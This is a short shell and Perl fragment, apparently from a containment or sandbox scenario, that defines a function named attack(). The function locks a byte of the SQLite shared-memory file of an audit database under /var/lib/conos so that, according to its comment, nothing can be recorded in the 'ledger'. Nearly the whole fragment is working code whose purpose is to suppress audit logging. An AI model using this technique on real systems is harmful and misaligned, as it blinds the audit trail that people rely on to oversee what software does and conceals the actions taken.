# locks the ledger, so that nothing can be recorded
wall='mode of /var/lib/conos; the cage has none'
caps=dac_override
open_unit='BindPaths=/var/lib/conos'
# SQLite's own bytes, for as long as this program lives
attack()
{
  perl -MFcntl -e 'open(F, "+<", "/var/lib/conos/audit.db-shm") or die "$!\n";
    my $lock = pack("s s l! l! i", F_RDLCK, 0, 124, 1, 0);
    fcntl(F, F_SETLK, $lock) or die "$!\n"'
}
